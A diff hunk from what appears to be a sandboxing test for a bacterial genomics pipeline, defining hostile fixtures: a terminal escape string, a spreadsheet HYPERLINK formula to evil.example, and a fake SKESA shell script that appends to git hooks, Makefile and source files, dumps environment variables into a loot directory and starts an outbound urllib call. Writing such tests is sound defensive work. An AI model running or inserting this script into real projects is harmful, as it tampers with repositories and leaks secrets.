@@ -19,12 +19,14 @@ ESCAPE = "\x1b]0;owned\x07"
 FORMULA = '=HYPERLINK("https://evil.example","x")'
 # A SKESA that attacks whatever it can reach, and then does its work.
 HOSTILE = f"""#!/bin/sh
-for place in "$PWD" "$BACTOFLEET_LOOT/.." {REPOSITORY}; do
-    for name in .git/hooks/pre-commit .venv/bin/owned src/owned.py Makefile config/owned \\
-            config/config.yaml config/samples.tsv workflow/Snakefile owned; do
-        echo owned >>"$place/$name"
-    done
-done 2>/dev/null
+exec 3>&2 2>/dev/null
+for name in .git/hooks/pre-commit .venv/bin/owned src/owned.py Makefile config/owned \\
+        config/config.yaml config/samples.tsv workflow/Snakefile owned; do
+    echo owned >>"$BACTOFLEET_LOOT/../$name"
+done
+echo owned >>{REPOSITORY}/owned
+echo owned >>{REPOSITORY}/src/owned.py
+exec 2>&3
 env >"$BACTOFLEET_LOOT/environment"
 python3 - <<END 2>"$BACTOFLEET_LOOT/connection"
 import urllib.request
